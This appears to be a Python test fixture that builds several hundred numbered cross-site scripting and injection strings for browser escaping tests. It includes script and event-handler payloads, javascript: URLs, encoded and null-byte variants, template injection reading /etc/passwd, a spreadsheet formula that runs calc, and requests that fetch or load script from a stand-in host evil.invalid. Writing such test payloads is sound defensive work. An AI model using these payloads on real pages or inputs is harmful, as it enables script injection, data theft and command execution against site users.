"""Strings that would run as a script, load something or break out of their place if they were not escaped.

Each string has a number, so that every one of them can be looked for on a page. What it would do is what the browser
tests see: it calls `ran`, opens a dialog, writes to the console, leaves the page or asks another host.
"""

import itertools
import re

CODES = (
    "ran({n})",
    "alert({n})",
    "console.error({n})",
    "fetch('//evil.invalid/{n}')",
    "import('//evil.invalid/{n}.js')",
    "location='//evil.invalid/{n}'",
    "top[`ran`]({n})",
    "[].map.constructor('ran({n})')()",
)

# Forms in which a string leaves its place: in HTML, in an attribute, in a script, in an address, in a style.
FORMS = (
    "<script>{code}</script>",
    "</script><script>{code}//",
    "</title><script>{code}</script>",
    "</textarea></style></noscript><script>{code}</script>",
    "<!--<script>{code}--!></script>",
    "--><script>{code}</script><!--",
    "]]><script>{code}</script><![CDATA[",
    "<ScRiPt\t>{code}</sCrIpT >",
    "<script/src=//evil.invalid/{n}.js>",
    "<img src=x onerror={code}>",
    "<img/src/onerror={code}//",
    "<image src=//evil.invalid/{n}.png onload={code}>",
    "<svg onload={code}>",
    "<svg><script>{code}</script></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,{n}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={code}>",
    "<math href=javascript:{code}>click {n}",
    "<iframe srcdoc='<script>{code}</script>'>",
    "<iframe src=javascript:{code}>",
    "<object data=//evil.invalid/{n}>",
    "<embed src=//evil.invalid/{n}>",
    "<base href=//evil.invalid/{n}/>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid/{n}>",
    "<link rel=stylesheet href=//evil.invalid/{n}.css>",
    "<style>@import'//evil.invalid/{n}.css';</style>",
    "<style>*{{background:url(//evil.invalid/{n})}}</style>",
    "<p style=width:expression({code});background:url(//evil.invalid/{n})>",
    "<body onload={code}>",
    "<details open ontoggle={code}>",
    "<input autofocus onfocus={code}>",
    "<video><source onerror={code}>",
    "<form action=javascript:{code}><button>{n}",
    "<a href=javascript:{code}>{n}</a>",
    "<a href='https://evil.invalid/{n}'><b>{n}</b></a><br>",
    '" onmouseover="{code}" x="',
    "' onfocus='{code}' autofocus '",
    '"><script>{code}</script>',
    "'><img src=x onerror={code}>",
    "` onerror={code} `",
    "x onpointerenter={code} y={n}",
    '\\"-{code}//',
    '"-{code}-"',
    "'-{code}-'",
    "\\u0022-{code}//\\u0027",
    "\u2028{code}//\u2029",
    "*/{code}/*",
    "${{{code}}}",
    "`;{code};`",
    "\\u003cscript\\u003e{code}\\u003c/script\\u003e",
    "\\x3cimg src=x onerror={code}\\x3e",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&#60;script&#62;{code}&#x3c;/script&#x3e;",
    "&amp;lt;img src=x onerror={code}&amp;gt;",
    "javascript:{code}",
    "java\tscript:{code}",
    "data:text/html,<script>{code}</script>",
    "//evil.invalid/{n}?x=%3Cscript%3E{code}",
    "../../{n}.html#<script>{code}",
    "{{{{7*7}}}} {{{{ ''.__class__ }}}} {n}",
    "{{% raw %}} {{% include '/etc/passwd' %}} {n}",
    "%{{x}} %{{customdata}} %s %n {n}",
    "[{n}](javascript:{code})",
    "![{n}](//evil.invalid/{n}.png)",
    "<s>a\x00</s\x00cript\x00>{code}",
    "<\x00script>{code}</script>",
    "\u202e<script>{code}</script>\u2066{n}",
    "\ufeff＜script＞{code}＜/script＞",
    "=cmd|' /C calc'!A{n}",
    "<tspan><a href='https://evil.invalid/{n}'>{n}</a><sub>x</sub>",
)

ATTACKS = tuple(
    form.format(code=code.format(n=n), n=n) for n, (form, code) in enumerate(itertools.product(FORMS, CODES), 1000)
)
"""More than 500 strings, all different."""

_UNSEEN = re.compile(
    "U\\+[0-9A-F]{4}|[\u2400-\u2421\ufffd\\s\x00-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff_-]"
)


def seen(text: str) -> str:
    """What can be compared of a string and of the text of a page: no white space, hidden signs, case, and hyphens."""
    return _UNSEEN.sub("", text).lower()
